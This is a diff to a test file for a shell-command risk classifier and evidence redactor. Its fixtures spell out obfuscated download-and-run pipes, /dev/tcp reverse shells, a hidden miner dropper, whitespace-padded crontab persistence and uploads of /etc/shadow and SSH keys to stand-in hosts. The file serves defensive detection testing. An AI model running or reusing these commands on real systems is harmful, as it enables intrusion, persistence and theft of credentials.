@@ -1,6 +1,7 @@
 import { describe, expect, test } from 'vitest'
-import { evidenceOf } from '#resources/setting/security/evidence.ts'
-import { judgeCommand } from '#resources/setting/security/patterns.ts'
+import { asShellReads } from '#resources/setting/security/command/asShellReads.ts'
+import { evidenceOf, withoutAddresses } from '#resources/setting/security/evidence.ts'
+import { judgeCommand } from '#resources/setting/security/command/patterns.ts'
 
 const key = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAINotAKeyNotAKeyNotAKeyNotAKey'
 
@@ -35,6 +36,40 @@ describe('what was planted is recognized', () => {
     ['certutil -urlcache -f http://example.org/a.exe a.exe', 'medium', ['winDl']],
     ['systemctl stop nezha-agent-7f3a', 'high', ['secondAgent']],
     ['NZ_SERVER=dash.example.net:8008 ./agent.sh', 'high', ['secondAgent']],
+    // Read as a shell reads it: quotes inside words, variables and continued lines.
+    [
+      'n=203.0.113; p=41\nu="ht""tp://$n.$p:8080/i.s""h"\n(c"u"rl -fsSL "$u" || w\\get -qO- "$u") \\\n  | s""h >/dev/null',
+      'critical',
+      ['dlPipeShell', 'rawIpHttp'],
+    ],
+    [
+      'd=/dev/shm; f=.kworker_u8; s=198.51.100.23\ncurl -fso $d/$f http://$s/k8 \\\n && chmod 755 ${d}/${f} && setsid $d/$f &',
+      'critical',
+      ['hiddenTmp', 'rawIpHttp'],
+    ],
+    ['t=tcp; h=198.51.100.9; bash -c "exec 3<>/dev/$t/$h/443 && sh <&3 >&3 2>&3"', 'critical', ['revShell']],
+    ['bash -c \'b"as"h -i >& /dev/t"c"p/198.51.100.9/1 0>&1\'', 'critical', ['revShell']],
+    ['x\\\nmrig --help; xm\\\nrig', 'critical', ['miner']],
+    ['exec 5<>/dev/tcp/198.51.100.9/1; cat <&5 | while read l; do $l 2>&5 >&5; done', 'critical', ['revShell']],
+    ['cat </dev/tcp/198.51.100.9/1 | bash', 'critical', ['revShell']],
+    ['(echo > /dev/tcp/db/1); cat </dev/tcp/198.51.100.9/1 | sh', 'critical', ['revShell']],
+    ['curl http://10.0.0.1/a; curl http://8.8.4.4/b', 'medium', ['rawIpHttp']],
+    ['sh </dev/tcp/198.51.100.9/1', 'critical', ['revShell']],
+    ['(crontab -l; echo "12 3 * * * /root/.acme.sh/acme.sh --cron") | crontab -', 'medium', ['crontabWrite']],
+    [`apt-get update${' '.repeat(90)}; /usr/lib/apt/helperd`, 'high', ['farRight']],
+    [`apt-get update${' '.repeat(30_000)}; /usr/lib/apt/helperd`, 'high', ['farRight']],
+    [
+      `apt-get update${' '.repeat(220)};(crontab -l; echo "* * * * * /usr/lib/apt/helperd") | crontab -`,
+      'critical',
+      ['crontabWrite', 'farRight'],
+    ],
+    [
+      'tar czf - /etc/letsencrypt /etc/shadow /root/.ssh /opt/nezha/agent/config.yml | curl -fsS -T - https://bk.example/$(hostname).tgz',
+      'high',
+      ['secretUpload'],
+    ],
+    ['curl -F "f=@/home/ops/.ssh/id_ed25519" https://bk.example/in', 'high', ['secretUpload']],
+    ['wget --post-file=/etc/shadow https://bk.example/in', 'high', ['secretUpload']],
     ['systemctl disable --now aegis.service', 'medium', ['guardOff']],
     ['setenforce 0; rm -rf /usr/local/aegis', 'medium', ['guardOff']],
     ['docker run -d --name p iproyal/pawns-cli', 'medium', ['sellBandwidth']],
@@ -70,12 +105,59 @@ describe('ordinary commands are not doubted', () => {
     'systemctl restart nezha-agent',
     'echo "$PASSWORD" | base64',
     'ping -c1 8.8.8.8; curl https://example.com',
+    'timeout 3 bash -c "</dev/tcp/10.0.0.7/5432" && echo db ok',
+    'H=db1; timeout 3 bash -c "</dev/tcp/$H/5432" 2>&1 || systemctl restart pgbouncer',
+    'until (echo > /dev/tcp/db/5432) >/dev/null 2>&1; do sleep 1; done; sh /opt/start.sh',
+    "exec 3<>/dev/tcp/10.0.0.7/80; printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3; cat <&3 | head -1",
+    'echo up > /dev/udp/10.0.0.1/514',
+    'URL="https://hc-ping.com/abc"\ncurl -fsS -m 10 "$URL/start"; /opt/backup.sh; curl -fsS "$URL/$?"',
+    'rsync -az --delete -e "ssh -i /root/.ssh/id_backup" /srv/ backup@10.0.0.5:/srv && curl -fsS -F s=ok https://hc-ping.com/abc',
+    'tar czf - /etc /srv | ssh backup@nas.example.org "cat > /backup/$(hostname).tgz"',
+    'tar czf - /etc /var/www | curl -fsS -u u123:pw -T - https://u123.your-storagebox.de/backup/$(date +%F).tgz',
+    'curl -T /root/.ssh/config sftp://nas.lan/backup/',
+    'crontab -l > /var/backups/crontab',
+    'VER=2.31.0\ncurl -fsSLo /tmp/p.tgz "https://github.com/p/releases/download/v${VER}/p.tgz" && tar xzf /tmp/p.tgz -C /opt',
+    'sed -i "s/foo\\.bar/baz/g" /etc/app.conf && grep -E "^a\\wb|sh" /etc/x && \\cp -f a b',
+    `apt-get install \\\n  curl${' '.repeat(70)}\\\n  wget`,
+    `uptime${' '.repeat(70)}# how long it runs`,
+    `# a${' '.repeat(70)}b\nuptime`,
+    `cat > /etc/motd <<'EOF'\nwelcome${' '.repeat(70)}to tokyo\nEOF`,
+    "# don't worry\necho it's done | mail -s report ops@example.org",
+    'export DEBIAN_FRONTEND=noninteractive\napt-get -y -o Dpkg::Options::=--force-confold upgrade',
+    'docker system prune -af --filter "until=240h" && journalctl --vacuum-time=30d',
+    '. /etc/restic/env && restic backup /etc /root/.ssh /srv && restic forget --keep-daily 7 --prune',
   ])('%s', (command) => expect(judgeCommand(command)).toBeUndefined())
 })
 
-test('evidence: addresses are masked, secrets are left out, and long parts are cut', () => {
-  expect(evidenceOf('wget  http://198.51.100.23/a\n')).toBe('wget http://198.51.x.x/a')
-  expect(evidenceOf('curl http://[2001:db8:0:1::5]/a')).toBe('curl http://[2001:db8::x]/a')
-  expect(evidenceOf('NZ_CLIENT_SECRET=abcdef ./x --token=q1')).toBe('NZ_CLIENT_SECRET=… ./x --token=…')
+test('what a shell would make of a command stays bounded', () => {
+  const doubling = Array.from({ length: 60 }, (_, at) => `v${at + 1}=$v${at}$v${at}`).join('\n')
+  expect(asShellReads(`v0=ab\n${doubling}`).length).toBeLessThan(70_000)
+  expect(asShellReads(`a=${'x'.repeat(400)}\n${'$a '.repeat(5000)}`).length).toBeLessThan(70_000)
+})
+
+test.each([
+  ['wget  http://198.51.100.23/a\n', 'wget http://198.51.100.23/a'],
+  ['NZ_CLIENT_SECRET=abcdef ./x --token=q1', 'NZ_CLIENT_SECRET=… ./x --token=…'],
+  ['curl -u bob:hunter2 https://example.org/i.sh | sh', 'curl -u bob:… https://example.org/i.sh | sh'],
+  ['curl --user "bob:hunter2" x', 'curl --user "bob:…" x'],
+  ['curl https://bob:hunter2@example.org/i.sh', 'curl https://bob:…@example.org/i.sh'],
+  ['curl -H "Authorization: Bearer abc123.SECRET" x', 'curl -H "Authorization: Bearer …" x'],
+  ['curl -H "Authorization: Basic Ym9iOmh1bnRlcjI=" x', 'curl -H "Authorization: Basic …" x'],
+  ['curl -H "X-Api-Key: abc" x', 'curl -H "X-Api-Key: …" x'],
+  ['./start -email a@b.example -pass hunter2', './start -email a@b.example -pass …'],
+  ['mysqldump -uroot -phunter2 --all-databases', 'mysqldump -uroot -p… --all-databases'],
+  ['sshpass -p hunter2 ssh a', 'sshpass -p … ssh a'],
+  ['./join --password hunter2', './join --password …'],
+  [
+    'curl https://api.telegram.org/bot123456:AAbb-Cc/sendMessage',
+    'curl https://api.telegram.org/bot123456:…/sendMessage',
+  ],
+  ['git clone https://ghp_abcDEF123@github.com/a/b', 'git clone https://ghp_…@github.com/a/b'],
+  ['mkdir -p /srv && date -u +%F', 'mkdir -p /srv && date -u +%F'],
+])('evidence: %s becomes %s', (command, shown) => expect(evidenceOf(command)).toBe(shown))
+
+test('evidence: long parts are cut, and a file has addresses in parts', () => {
   expect(evidenceOf('x'.repeat(200))).toHaveLength(91)
+  expect(withoutAddresses('wget http://198.51.100.23/a')).toBe('wget http://198.51.x.x/a')
+  expect(withoutAddresses('curl http://[2001:db8:0:1::5]/a')).toBe('curl http://[2001:db8::x]/a')
 })
